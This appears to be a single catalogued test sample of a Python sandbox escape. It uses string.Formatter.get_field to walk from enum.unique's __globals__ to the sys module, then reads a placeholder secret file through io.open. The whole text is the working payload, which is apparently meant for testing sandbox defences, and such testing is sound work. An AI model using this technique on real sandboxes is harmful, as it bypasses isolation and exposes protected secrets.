# attack: string.Formatter.get_field walks like a format string and returns the object itself; the module goes through a parameter
# family: format
import enum
import string
def walker(module):
    return module.Formatter()
sys = walker(string).get_field("0.__globals__[sys]".replace("!", ""), (enum.unique,), {})[0]
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
